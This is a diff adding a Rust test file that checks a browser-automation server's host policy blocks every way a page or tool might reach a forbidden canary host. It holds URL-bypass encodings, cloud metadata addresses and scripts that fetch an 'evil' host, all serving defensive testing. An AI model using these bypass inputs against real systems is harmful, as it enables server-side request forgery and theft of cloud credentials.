@@ -1,0 +1,378 @@
+//! The host policy: nothing goes round it, and what it refuses is told in words.
+
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use crate::support::{
+    Answer, Canary, Proxy, Server, Site,
+    agent::{DIALECT, data, fails},
+    engine,
+};
+
+/// The host of the site that is allowed, and the one of the canary. Both are this machine.
+const GOOD: &str = "good.localhost";
+const EVIL: &str = "evil.localhost";
+
+/// The same, as a browser finds them without us too.
+const PLAIN: [&str; 2] = ["localhost", "127.0.0.1"];
+
+/// A page that tries to reach the canary in all ways that there are, and says when it has.
+fn escapes(canary: &Canary, [good, evil]: [&str; 2]) -> Site {
+    let evil = format!("{evil}:{}", canary.port());
+    let page = include_str!("support/escapes.html").replace("EVIL", &evil).replace("GOOD", good);
+    let site = Site::of(&page.replace("PORT", &canary.port().to_string()));
+    let to = |path: &str| Answer::Redirect(format!("http://{evil}{path}"));
+    for kind in ["frame", "img", "script", "fetch", "popup", "download"] {
+        site.answer(&format!("/redirect-{kind}"), to(&format!("/redirected-{kind}")));
+    }
+    site.answer(
+        "/redirect-307",
+        Answer::Raw(307, vec![format!("Location: http://{evil}/redirected-307")], Vec::new()),
+    );
+    site.answer("/worker-redirected.js", to("/redirected-worker"));
+    let reporting = [
+        format!("Content-Security-Policy: img-src 'none'; report-uri http://{evil}/csp; report-to far"),
+        format!("Reporting-Endpoints: far=\"http://{evil}/report\""),
+        format!("Link: <http://{evil}/link-header>; rel=preload; as=image, <http://{evil}>; rel=preconnect"),
+        "Content-Type: text/html".into(),
+    ];
+    site.answer("/reporting", Answer::Raw(200, reporting.to_vec(), b"<img src=/none>".to_vec()));
+    let worker = format!(
+        "try {{ importScripts('http://{evil}/sw-import'); }} catch {{}}
+         oninstall = (event) => event.waitUntil(fetch('http://{evil}/sw-fetch', {{ mode: 'no-cors' }}).catch(() => {{}}));"
+    );
+    site.answer("/sw.js", Answer::Body("text/javascript", worker.into_bytes()));
+    site
+}
+
+/// What must have reached the canary without a policy, or the page would prove nothing: in both browsers.
+const CONTROLS: [&str; 34] = [
+    "/stylesheet",
+    "/import",
+    "/frame",
+    "/srcdoc",
+    "/refresh",
+    "/redirected-frame",
+    "/object",
+    "/embed",
+    "/img",
+    "/redirected-img",
+    "/srcset",
+    "/video",
+    "/svg",
+    "/script",
+    "/redirected-script",
+    "/module",
+    "/fetch",
+    "/no-cors",
+    "/keepalive",
+    "/redirected-fetch",
+    "/redirected-307",
+    "/xhr",
+    "/beacon",
+    "/socket",
+    "/events",
+    "/worker-fetch",
+    "/worker-socket",
+    "/worker-import",
+    "/nested",
+    "/shared-fetch",
+    "/popup",
+    "/blank",
+    "/spelled-0",
+    "udp",
+];
+
+fn allowed(flags: &[&str]) -> Server {
+    let mut all = vec!["--allowed-hosts", GOOD, "--dialect", "agent,browser"];
+    all.extend(flags);
+    Server::start(&all)
+}
+
+/// Runs the page of escapes until all of its attempts have ended.
+fn run(server: &mut Server, site: &Site) -> String {
+    let opened = server.navigate(&site.other_url("/"));
+    opened.says("Escapes");
+    let done = server.call("browser_evaluate", json!({ "function": "() => all" }));
+    assert!(done.facts()["result"].as_i64().unwrap() > 100, "{}", done.text());
+    opened.text() + &done.text()
+}
+
+#[test]
+fn without_a_policy_the_page_of_escapes_reaches_the_canary() {
+    let canary = Canary::start();
+    let site = escapes(&canary, PLAIN);
+    let mut server = Server::start(&DIALECT);
+    run(&mut server, &site);
+    let patience = Instant::now() + Duration::from_secs(10);
+    loop {
+        let hits = canary.hits();
+        let missing: Vec<_> = CONTROLS.iter().filter(|path| !hits.iter().any(|hit| hit == *path)).collect();
+        if missing.is_empty() {
+            break;
+        }
+        assert!(Instant::now() < patience, "{missing:?} are not in {hits:?}");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn no_request_of_any_kind_goes_round_the_policy() {
+    let canary = Canary::start();
+    let site = escapes(&canary, PLAIN);
+    let mut server = Server::start(&["--allowed-hosts", "localhost", "--dialect", "agent,browser"]);
+    let told = run(&mut server, &site);
+    assert!(told.contains("blocked by the host policy: "), "{told}");
+    assert!(told.contains(" is not an allowed host"), "{told}");
+    assert!(site.requests().iter().any(|line| line == "GET /worker-redirected.js"), "{:?}", site.requests());
+    // In another context too, which has a relay of its own.
+    server.call("browser_context_create", json!({ "name": "second" })).ok();
+    run(&mut server, &site);
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn no_tool_goes_round_the_policy() {
+    let canary = Canary::start();
+    let site = escapes(&canary, [GOOD, EVIL]);
+    let mut server = allowed(&[]);
+    let evil = format!("http://{EVIL}:{}", canary.port());
+    let refused = format!("{EVIL} is not an allowed host");
+    site.answer("/field", Answer::Html("<title>Field</title><input type=file>".into()));
+    server.navigate(&site.url_on(GOOD, "/field")).says("Field");
+    server.call("browser_navigate", json!({ "url": format!("{evil}/navigate") })).fails(&refused);
+    for (host, normal) in [
+        ("EVIL.localhost.", EVIL),
+        ("good.localhost@evil.localhost", EVIL),
+        ("2130706433", "127.0.0.1"),
+        ("0x7f.1", "127.0.0.1"),
+        ("0177.0.0.1", "127.0.0.1"),
+        ("[::ffff:127.0.0.1]", "127.0.0.1"),
+        ("ev\til.localhost", EVIL),
+        ("localhost", "localhost"),
+        ("ｅvil.localhost", EVIL),
+        ("[::1]", "[::1]"),
+        ("bücher.localhost", "xn--bcher-kva.localhost"),
+    ] {
+        let url = format!("http://{host}:{}/", canary.port());
+        let reply = server.call("browser_navigate", json!({ "url": url }));
+        reply.fails(&format!("{normal} is not an allowed host"));
+        assert_eq!(reply.facts()["error"]["name"], "Forbidden");
+    }
+    let backslash = format!("http:\\\\{EVIL}:{}\\@{GOOD}/", canary.port());
+    server.call("browser_navigate", json!({ "url": backslash })).fails(&refused);
+    // Redirects are followed to the door.
+    let to = site.url_on(GOOD, "/redirect-frame");
+    server.call("browser_navigate", json!({ "url": to })).fails(&refused);
+    let to = site.url_on(GOOD, "/redirect-fetch");
+    fails(&server.call("request", json!({ "url": to, "method": "GET" })), "Forbidden", &refused);
+    fails(&server.call("request", json!({ "url": evil, "method": "GET" })), "Forbidden", &refused);
+    let tls = evil.replace("http:", "https:");
+    fails(&server.call("request", json!({ "url": tls, "method": "GET" })), "Forbidden", &refused);
+    server.call("browser_tabs", json!({ "action": "new", "url": evil })).fails(&refused);
+    // Files from URLs, straight and redirected.
+    server.navigate(&site.url_on(GOOD, "/field")).says("Field");
+    for url in [format!("{evil}/file"), site.url_on(GOOD, "/redirect-download")] {
+        let upload = server.call("upload", json!({ "selector": "input", "files": [{ "url": url }] }));
+        fails(&upload, "Forbidden", &refused);
+    }
+    // A route that sends a request elsewhere is no way out.
+    let elsewhere = json!({
+        "action": "add", "url_pattern": "**/field*", "handler": "continue", "modify": { "url": format!("{evil}/routed") },
+    });
+    data(&server.call("route", elsewhere));
+    server.call("browser_navigate", json!({ "url": site.url_on(GOOD, "/field?routed") }));
+    // A proxy of a context is a host like any other.
+    let proxy = format!("http://{EVIL}:{}", canary.port());
+    let context = json!({ "name": "round", "proxy": { "server": proxy } });
+    server.call("browser_context_create", context).fails(&refused);
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn link_local_and_metadata_addresses_are_refused_by_default() {
+    let mut server = Server::start(&DIALECT);
+    for (url, words) in [
+        ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
+        ("http://2852039166/", "169.254.169.254 is a link-local address"),
+        ("http://[fd00:ec2::254]/", "[fd00:ec2::254] is a cloud metadata address"),
+        ("http://metadata.google.internal/", "metadata.google.internal is a cloud metadata host"),
+    ] {
+        server.call("browser_navigate", json!({ "url": url })).fails(words);
+        fails(&server.call("request", json!({ "url": url, "method": "GET" })), "Forbidden", words);
+    }
+    // Redirects are no way there, and allowing the address is.
+    let site = Site::of("<title>Here</title>");
+    site.answer("/there", Answer::Redirect("http://169.254.169.254/".into()));
+    let redirected = server.call("request", json!({ "url": site.url("/there"), "method": "GET" }));
+    fails(&redirected, "Forbidden", "169.254.169.254 is a link-local address");
+    server.navigate(&site.url("/")).says("Here");
+}
+
+#[test]
+fn private_addresses_are_refused_on_demand() {
+    let canary = Canary::start();
+    let site = Site::of("<title>Here</title>");
+    let mut server = Server::start(&["--block-private", "--dialect", "agent,browser"]);
+    for host in ["127.0.0.1", "localhost", "a.localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]"] {
+        let url = format!("http://{host}:{}/", canary.port());
+        server.call("browser_navigate", json!({ "url": url })).fails("a loopback address");
+    }
+    server
+        .call("browser_navigate", json!({ "url": "http://192.168.7.7/" }))
+        .fails("192.168.7.7 is a private address");
+    drop(server);
+    let mut server = Server::start(&["--block-private", "--allowed-hosts", "localhost"]);
+    server.navigate(&site.other_url("/")).says("Here");
+    server
+        .call("browser_navigate", json!({ "url": site.url("/") }))
+        .fails("127.0.0.1 is not an allowed host");
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn blocked_beats_allowed_and_ports_do_not_matter() {
+    let canary = Canary::start();
+    let site = Site::of("<title>Here</title>");
+    let flags = ["--allowed-hosts", "*.localhost", "--blocked-hosts", "evil.localhost,*.evil.localhost"];
+    let mut server = Server::start(&flags);
+    server.navigate(&site.url_on(GOOD, "/")).says("Here");
+    server.navigate(&site.url_on("a.b.localhost", "/")).says("Here");
+    for host in [EVIL, "deep.evil.localhost"] {
+        let url = format!("http://{host}:{}/", canary.port());
+        server.call("browser_navigate", json!({ "url": url })).fails(&format!("{host} is a blocked host"));
+        server.call("browser_navigate", json!({ "url": site.url_on(host, "/") })).fails("is a blocked host");
+    }
+    server
+        .call("browser_navigate", json!({ "url": site.url("/") }))
+        .fails("127.0.0.1 is not an allowed host");
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn a_policy_and_an_upstream_proxy_work_together() {
+    let canary = Canary::start();
+    let site = Site::of("<title>Shop</title>");
+    let proxies = [(Proxy::http(Some(("jo", "pass"))), "http://jo:pass@"), (Proxy::socks(None), "socks5://")];
+    for (proxy, scheme) in &proxies {
+        let url = format!("{scheme}{}", proxy.address());
+        let mut server = Server::start(&["--proxy", &url, "--allowed-hosts", "shop.test"]);
+        // A name that only the proxy can resolve.
+        server.navigate(&site.url_on("shop.test", "/")).says("Shop");
+        assert!(proxy.saw(&format!("shop.test:{}", site.port())));
+        let seen = proxy.seen().len();
+        let there = format!("http://evil.test:{}/", canary.port());
+        let script =
+            format!("() => fetch('{there}', {{ mode: 'no-cors' }}).then(() => 'came', () => 'failed')");
+        server
+            .call("browser_evaluate", json!({ "function": script }))
+            .says("evil.test is not an allowed host");
+        server.call("browser_navigate", json!({ "url": there })).fails("evil.test is not an allowed host");
+        assert_eq!(proxy.seen().len(), seen, "{:?}", proxy.seen());
+    }
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn a_thousand_sockets_to_a_blocked_host_are_told_once() {
+    let canary = Canary::start();
+    let site = Site::of("<title>Here</title>");
+    let mut server = allowed(&[]);
+    server.navigate(&site.url_on(GOOD, "/")).says("Here");
+    let script = format!(
+        "async () => {{
+            const ended = (n) => new Promise((done) => {{
+                const socket = new WebSocket('ws://{EVIL}:{}/' + n);
+                socket.onopen = () => done(1);
+                socket.onerror = () => done(0);
+            }});
+            let opened = 0;
+            // The browser delays sockets to a host that takes none; those that still wait then are given up with their page.
+            const all = Array.from({{ length: 1000 }}, (_, n) => ended(n).then((one) => {{ opened += one; }}));
+            await Promise.race([Promise.all(all), new Promise((done) => setTimeout(done, 3000))]);
+            return opened;
+        }}",
+        canary.port()
+    );
+    let reply = server.call("browser_evaluate", json!({ "function": script }));
+    assert_eq!(reply.facts()["result"], 0);
+    let told = reply.text().matches("evil.localhost is not an allowed host").count();
+    assert_eq!(told, 1, "{}", reply.text());
+    assert!(reply.bytes < 4_000, "{} bytes", reply.bytes);
+    // Not again, and the page is as quick as before.
+    server.call("browser_evaluate", json!({ "function": "() => 1" })).says_not("not an allowed host");
+    let began = Instant::now();
+    server.navigate(&site.url_on(GOOD, "/?again")).says_not("not an allowed host");
+    assert!(began.elapsed() < Duration::from_secs(10));
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn nothing_goes_direct_when_the_network_process_dies() {
+    if engine().is_some_and(|engine| engine != "chromium") {
+        return;
+    }
+    let canary = Canary::start();
+    let site = Site::of("<title>Here</title>");
+    let mut server = allowed(&[]);
+    server.call("browser_context_create", json!({ "name": "second" })).ok();
+    server.navigate(&site.url_on(GOOD, "/")).says("Here");
+    let network = |pid: &u32| {
+        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        String::from_utf8_lossy(&line).contains("network.mojom.NetworkService")
+    };
+    let pid = server.descendants().into_iter().find(network).expect("a network process");
+    let ended = std::process::Command::new("kill").args(["-9", &pid.to_string()]).status().unwrap();
+    assert!(ended.success());
+    let script = format!(
+        "() => Promise.all(['{EVIL}', 'localhost', '127.0.0.1'].map((host) =>
+            fetch('http://' + host + ':{}/', {{ mode: 'no-cors' }}).then(() => 1, () => 0)))",
+        canary.port()
+    );
+    for _ in 0..5 {
+        server.call("browser_evaluate", json!({ "function": script }));
+    }
+    server.call("browser_navigate", json!({ "url": site.url_on(GOOD, "/?after") }));
+    assert_eq!(canary.hits(), [""; 0]);
+}
+
+#[test]
+fn host_lists_that_are_wrong_are_an_error_at_start() {
+    for (list, words) in [
+        ("a.test, b.test", "a host has no spaces"),
+        ("a.test:80", "without a port"),
+        ("https://a.test", "without its scheme"),
+        ("a*.test", "a wildcard is `*.` before a domain"),
+        ("*", "a wildcard is `*.` before a domain"),
+        ("a.test,", "an entry of the list is empty"),
+        ("", "an entry of the list is empty"),
+        ("10.0.0.0/8", "not a host name or an address"),
+    ] {
+        for option in ["--allowed-hosts", "--blocked-hosts"] {
+            let program = std::process::Command::new(env!("CARGO_BIN_EXE_cicerone"))
+                .args([option, list])
+                .stdin(std::process::Stdio::null())
+                .output()
+                .unwrap();
+            let said = String::from_utf8_lossy(&program.stderr);
+            assert!(!program.status.success(), "{option} {list:?} was taken");
+            assert!(said.contains(words) && said.contains(option), "{option} {list:?}: {said}");
+        }
+    }
+    let program = std::process::Command::new(env!("CARGO_BIN_EXE_cicerone"))
+        .env("CICERONE_ALLOWED_HOSTS", "a.test:80")
+        .stdin(std::process::Stdio::null())
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&program.stderr);
+    assert!(said.contains("CICERONE_ALLOWED_HOSTS") && said.contains("without a port"), "{said}");
+}
+
+#[test]
+fn the_vision_dialect_answers_with_its_own_code() {
+    let mut server = Server::start(&["--dialect", "vision", "--allowed-hosts", GOOD]);
+    let reply = server.call("browser.navigate", json!({ "url": "http://evil.example/" }));
+    reply.refused(-32002, "evil.example is not an allowed host");
+    assert_eq!(reply.message["error"]["data"]["name"], "AuthorizationError");
+}
